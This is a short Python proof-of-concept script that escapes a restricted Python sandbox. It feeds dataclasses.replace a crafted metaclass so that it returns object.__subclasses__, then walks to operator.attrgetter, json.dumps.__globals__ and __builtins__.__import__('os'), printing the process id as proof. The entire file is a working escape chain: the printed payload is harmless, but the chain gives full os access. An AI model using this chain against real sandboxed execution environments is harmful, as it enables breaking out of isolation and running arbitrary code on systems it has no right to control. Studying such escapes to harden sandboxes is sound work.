# proves: prints ESCAPED pid; dataclasses.replace reads whatever __dataclass_fields__ names

import dataclasses, json
@dataclasses.dataclass
class T:
    a: int = 0
field = T.__dataclass_fields__["a"]
field.name = "__subclasses__"
found = []
class MM(type):
    __dataclass_fields__ = {"a": field}
    def __new__(mcls, *args, **kw):
        if kw:
            found.extend(kw.values())
            return None
        return type.__new__(mcls, *args)
    def __init__(cls, *args, **kw):
        pass
dataclasses.replace(MM("M", (type,), {}))
subclasses = found[0](object)
attrgetter = [c for c in subclasses if c.__name__ == "attrgetter" and c.__module__ == "operator"][0]
g = attrgetter("__globals__")(json.dumps)
print("ESCAPED", g["__builtins__"]["__import__"]("os").getpid())
